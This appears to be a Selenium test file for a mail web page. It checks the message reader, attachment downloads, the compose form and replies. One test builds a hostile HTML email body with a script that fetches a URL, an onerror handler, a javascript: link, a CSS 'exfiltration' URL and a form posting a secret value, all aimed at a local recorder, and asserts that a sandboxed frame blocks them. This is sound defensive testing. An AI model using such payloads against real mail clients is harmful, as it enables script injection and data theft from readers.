"""Reading and writing mail on the data page, in headless Chromium against a real service and graph-sim: a message
opens in the reader with its attachments, hostile HTML in a body runs nothing and loads nothing until the person
allows remote content, and the compose form sends new messages and replies."""

import http.server
import threading

from selenium.webdriver.common.by import By

from conftest import free_port, request, wait_until
from test_pages import link, screenshot

STATE = {}


class Recorder(http.server.BaseHTTPRequestHandler):
    """Counts every request a body manages to make (images, stylesheets, forms)."""

    seen = []

    def do_GET(self):  # noqa: N802 (http.server's name)
        Recorder.seen.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.end_headers()
        self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

    do_POST = do_GET

    def log_message(self, *arguments):
        pass


def deliver(stack, mailbox, **fields):
    status, body = request("POST", f"{stack.simulator}/sim/mailboxes/{mailbox}/messages", {"folder": "inbox", **fields})
    assert status == 201, body
    return body["id"]


def row_of(browser, subject):
    return browser.execute_script(
        "const row = Array.from(document.querySelectorAll('#messages tr[data-message-id]')).find(r => r.innerText.includes(arguments[0]));"
        "return row ? row.dataset.messageId : null;", subject)


def open_row(browser, subject):
    wait_until(lambda: row_of(browser, subject), 20, f"the message {subject!r} is listed")
    browser.execute_script(
        "Array.from(document.querySelectorAll('#messages tr[data-message-id]')).find(r => r.innerText.includes(arguments[0])).click();",
        subject)
    wait_until(lambda: browser.find_element(By.ID, "reader-subject").text == subject, 10, "the reader shows the message")


def test_a_hostile_body_runs_nothing_and_loads_nothing_until_allowed(browser, stack):
    recorder = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Recorder)
    threading.Thread(target=recorder.serve_forever, daemon=True).start()
    try:
        origin = f"http://127.0.0.1:{recorder.server_address[1]}"
        STATE["mailbox"] = stack.create_mailbox("reader@outlook.com", "Rita Reader", 0, 21)
        STATE["carol"] = stack.create_mailbox("carol@outlook.com", "Carol Writer", 0, 22)
        hostile = (
            '<html><head><style>p { background: url("ORIGIN/css-exfiltration") }</style></head><body>'
            '<p id="hello">Hello <b>reader</b></p>'
            "<script>parent.document.title = 'pwned by script'; fetch('ORIGIN/script-fetch');</script>"
            "<img src=\"nonexistent\" onerror=\"parent.document.title = 'pwned by onerror'\">"
            "<a id=\"jslink\" href=\"javascript:parent.document.title = 'pwned by link'\">a link</a>"
            '<img id="remote" src="ORIGIN/remote-image.gif">'
            '<form id="form" action="ORIGIN/form" method="post"><input name="q" value="secret"><button id="go">Go</button></form>'
            "</body></html>"
        ).replace("ORIGIN", origin)
        deliver(stack, STATE["mailbox"], subject="Totally harmless", contentType="html", body=hostile,
                **{"from": {"name": "Carol Writer", "address": "carol@outlook.com"}},
                attachments=[{"name": "agenda.txt", "contentType": "text/plain", "contentBytes": "QWdlbmRhOiBsYXVuY2g="}])
        STATE["account"] = link(browser, stack, "reader@outlook.com")
        browser.get(f"{stack.service}/data.html?account={STATE['account']}")
        open_row(browser, "Totally harmless")
        title = browser.title

        frame = browser.find_element(By.ID, "reader-body")
        assert frame.get_attribute("sandbox") == "", "a sandbox with no allow- tokens"
        # The frame has no origin: the page cannot reach into it, nor it into the page.
        wait_until(lambda: browser.execute_script(
            "try { return document.getElementById('reader-body').contentDocument === null; } catch (e) { return true; }"), 5,
            "the frame's document is not the page's to read")
        browser.switch_to.frame(frame)
        wait_until(lambda: browser.find_elements(By.ID, "hello"), 10, "the body is shown")
        assert browser.find_element(By.ID, "hello").text == "Hello reader"
        browser.find_element(By.ID, "jslink").click()
        browser.find_element(By.ID, "go").click()
        browser.switch_to.default_content()
        wait_until(lambda: browser.find_element(By.ID, "reader-subject").text == "Totally harmless", 5, "the page is still there")
        assert browser.title == title, "nothing in the body ran in the page"
        assert "pwned" not in browser.execute_script("return document.documentElement.outerHTML")
        assert Recorder.seen == [], f"the body loaded or sent nothing: {Recorder.seen}"

        # The attachment is offered as a download of its own.
        link_element = browser.find_element(By.CSS_SELECTOR, "#reader-attachments a")
        assert link_element.get_attribute("download") == "agenda.txt"
        fetched = browser.execute_script(
            "const r = await fetch(arguments[0]); return [r.status, r.headers.get('content-disposition'), await r.text()];",
            link_element.get_attribute("href"))
        assert fetched[0] == 200 and fetched[1].startswith("attachment") and fetched[2] == "Agenda: launch"

        # Remote content, once the person asks for it for this message: the image loads, scripts still do not run.
        browser.find_element(By.ID, "allow-remote").click()
        wait_until(lambda: "/remote-image.gif" in Recorder.seen, 10, "the remote image loads once allowed")
        assert "/script-fetch" not in Recorder.seen and "/form" not in Recorder.seen
        assert browser.title == title
        screenshot(browser, "reader.png")
    finally:
        recorder.shutdown()
        recorder.server_close()


def test_the_compose_form_sends_and_replies(browser, stack, tmp_path):
    attachment = tmp_path / "itinerary.txt"
    attachment.write_text("Depart at nine.")
    browser.find_element(By.ID, "compose-open").click()
    browser.find_element(By.ID, "compose-to").send_keys("Carol <carol@outlook.com>")
    browser.find_element(By.ID, "compose-subject").send_keys("Travel plans")
    browser.find_element(By.ID, "compose-body").send_keys("See the attached itinerary.")
    browser.find_element(By.ID, "compose-files").send_keys(str(attachment))
    browser.find_element(By.ID, "compose-send").click()
    wait_until(lambda: browser.find_element(By.ID, "compose-status").is_displayed(), 15, "the page says it was sent")
    received = [message for message in stack.truth(STATE["carol"])["messages"] if message["subject"] == "Travel plans"]
    assert len(received) == 1 and received[0]["hasAttachments"], "Carol has it, with its file"
    # The sent copy reaches the sender's list through the change flow.
    wait_until(lambda: row_of(browser, "Travel plans"), 20, "the sent message shows on the sender's page")

    # Reply to the opened message: addressed to its author, threaded.
    open_row(browser, "Totally harmless")
    browser.find_element(By.ID, "reply").click()
    assert browser.find_element(By.ID, "compose-to").get_attribute("value") == "Carol Writer <carol@outlook.com>"
    assert browser.find_element(By.ID, "compose-subject").get_attribute("value") == "RE: Totally harmless"
    browser.find_element(By.ID, "compose-body").send_keys("Thanks, it opened safely.")
    browser.find_element(By.ID, "compose-send").click()
    wait_until(lambda: any(message["subject"] == "RE: Totally harmless" for message in stack.truth(STATE["carol"])["messages"]), 15,
               "Carol has the reply")

    # A bad address is refused with the server's reason, on the form.
    browser.find_element(By.ID, "compose-open").click()
    browser.find_element(By.ID, "compose-to").send_keys("not an address")
    browser.find_element(By.ID, "compose-send").click()
    wait_until(lambda: "to[0].address" in browser.find_element(By.ID, "compose-error").text, 10, "the reason is shown")
